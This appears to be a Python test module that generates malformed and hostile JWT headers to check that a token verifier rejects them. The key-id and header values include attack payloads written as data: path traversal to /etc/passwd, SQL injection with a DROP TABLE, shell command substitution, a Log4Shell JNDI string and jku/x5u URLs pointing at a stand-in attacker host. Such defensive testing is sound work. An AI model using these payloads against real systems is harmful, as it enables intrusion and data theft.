"""Tokens whose header is none of ours: its JSON, `typ`, `kid`, `crit`, and members that point to keys."""

import json
from collections.abc import Callable
from typing import Any, Final

from cryptography.hazmat.primitives.asymmetric import rsa

from ops.testing.bad_tokens.making import BadToken, header, pad, with_header, with_segments
from ops.testing.token_issuer import TokenIssuer, encode, new_key, public_jwk

_DROP: Final = TokenIssuer.DROP
_ELSEWHERE: Final = "https://evil.example/jwks.json"


def _by_a_stranger(
    name: str, members: Callable[[rsa.RSAPrivateKey], dict[str, Any]], kid: str | None
) -> BadToken:
    """Signed with a key that the token itself brings along or points to."""

    def build(issuer: TokenIssuer) -> str:
        key = new_key()
        head = issuer.header(**members(key), **({"kid": kid} if kid else {}))
        return issuer.sign(json.dumps(head), json.dumps(issuer.claims()), key=key)

    return BadToken(
        f"{name}, under {'a kid of its own' if kid else 'our kid'}",
        "unknown-key" if kid else "signature",
        build,
    )


_BROUGHT: Final[dict[str, Callable[[rsa.RSAPrivateKey], dict[str, Any]]]] = {
    "another key": lambda _: {},
    "jwk": lambda key: {"jwk": public_jwk("own", key)},
    "jku": lambda _: {"jku": _ELSEWHERE},
    "x5u": lambda _: {"x5u": _ELSEWHERE},
    "x5c": lambda _: {"x5c": ["MIIB"], "x5t": "AAAA"},
    "jku to this machine": lambda _: {"jku": "http://127.0.0.1:1/"},
    "jku to a file": lambda _: {"jku": "file:///etc/passwd"},
}

_UNKNOWN_KIDS: Final[tuple[object, ...]] = (
    *(_DROP, None, "", " ", "second", "FIRST", "first ", " first", "first\0", "*", "k" * 255, "k" * 256),
    *("../../etc/passwd", "/dev/null", "/proc/self/environ", "http://127.0.0.1:1/", _ELSEWHERE),
    *(
        "' OR '1'='1",
        "first' --",
        "'; DROP TABLE log.events; --",
        "first' UNION SELECT 'secret",
        "$(id)",
        "`id`",
    ),
    *(
        "| id",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "%00",
        "first%00",
        "<script>",
        "\r\nX: y",
        "\ud800",
    ),
    *(0, 1, -1, 1.5, True, ["first"], [], {"first": 1}, {}, "ﬁrst", "f\u0456rst"),
)

_TYPES: Final[tuple[object, ...]] = (
    *(
        _DROP,
        None,
        "",
        " ",
        "JWE",
        "JOSE",
        "JWT ",
        "jwt\0",
        "id+jwt",
        "id_token",
        "logout+jwt",
        "dpop+jwt",
        "rt+jwt",
    ),
    *(
        "secevent+jwt",
        "text/at+jwt",
        "application/",
        "application/application/jwt",
        "at+jwt;v=1",
        "at jwt",
        "at",
    ),
    *(["JWT"], {"typ": "JWT"}, 1, True),
)

_LATIN_1: Final = b'{"alg": "\xff"}'

_DEMANDS: Final[tuple[object, ...]] = (
    *(["exp"], ["b64"], ["alg"], ["https://evil.example/x"], ["a"] * 50, [], [1], "exp", {}, 0, False, None),
)

TOKENS: Final = (
    # --- its JSON
    with_segments(
        "header is not base64url of whole bytes", "malformed", lambda _, p, s: f"{'A' * 5}.{p}.{s}"
    ),
    with_segments("header is not UTF-8", "malformed", lambda _, p, s: f"{encode(_LATIN_1)}.{p}.{s}"),
    with_segments(
        "header in UTF-16", "malformed", lambda _, p, s: f"{encode('{}'.encode('utf-16'))}.{p}.{s}"
    ),
    with_segments(
        "header is compressed", "malformed", lambda _, p, s: f"{encode(bytes([120, 156, 3, 0]))}.{p}.{s}"
    ),
    with_segments("header cut", "malformed", lambda h, p, s: f"{h[: len(h) // 8 * 4]}.{p}.{s}"),
    with_header("header is not JSON", "malformed", lambda _: "not json"),
    with_header("header is a list", "malformed", lambda text: f"[{text}]"),
    with_header("header is a string", "malformed", lambda _: '"RS256"'),
    with_header("header is a number", "malformed", lambda _: "256"),
    with_header("header is null", "malformed", lambda _: "null"),
    with_header("header is followed by another", "malformed", lambda text: text + text),
    with_header("header is followed by a comma", "malformed", lambda text: text[:-1] + ",}"),
    with_header("header with a byte order mark", "malformed", lambda text: "\ufeff" + text),
    with_header("header in single quotation marks", "malformed", lambda text: text.replace('"', "'")),
    with_header("header with a comment", "malformed", lambda text: text[:-1] + "/* */}"),
    with_header("header of a thousand brackets", "malformed", lambda _: "[" * 1000),
    with_header("header of a thousand braces", "malformed", lambda _: '{"a":' * 300 + "1" + "}" * 300),
    with_header(
        "an extension nested 40 deep", "malformed", lambda text: pad(text, '"x": ' + "[" * 40 + "]" * 40)
    ),
    with_header("header over 1 536 bytes", "malformed", lambda text: pad(text, f'"x": "{"y" * 1600}"')),
    with_header("alg twice, the good one last", "malformed", lambda text: '{"alg": "none", ' + text[1:]),
    with_header("alg twice, the good one first", "malformed", lambda text: pad(text, '"alg": "none"')),
    with_header("alg twice, escaped", "malformed", lambda text: pad(text, r'"\u0061lg": "none"')),
    with_header("typ twice", "malformed", lambda text: pad(text, '"typ": "at+jwt"')),
    with_header("kid twice", "malformed", lambda text: pad(text, '"kid": "first"')),
    with_header("an extension twice", "malformed", lambda text: pad(text, '"x": 1, "x": 1')),
    with_header("NaN in the header", "malformed", lambda text: pad(text, '"x": NaN')),
    with_header("an infinity in the header", "malformed", lambda text: pad(text, '"x": -Infinity')),
    with_header(
        "a number without an exponent", "malformed", lambda text: pad(text, '"x": ' + "9" * 1500 + "e")
    ),
    with_header("a number of 1 400 digits", "malformed", lambda text: pad(text, '"x": ' + "9" * 1400 + "x")),
    # --- what it demands
    *(header("crit", value, "critical") for value in _DEMANDS),
    with_header("unencoded payload", "critical", lambda text: pad(text, '"b64": false, "crit": ["b64"]')),
    *(header("typ", value, "type") for value in _TYPES),
    # --- which key it wants
    *(header("kid", value, "unknown-key") for value in _UNKNOWN_KIDS),
    *(_by_a_stranger(name, members, kid) for name, members in _BROUGHT.items() for kid in (None, "own")),
)
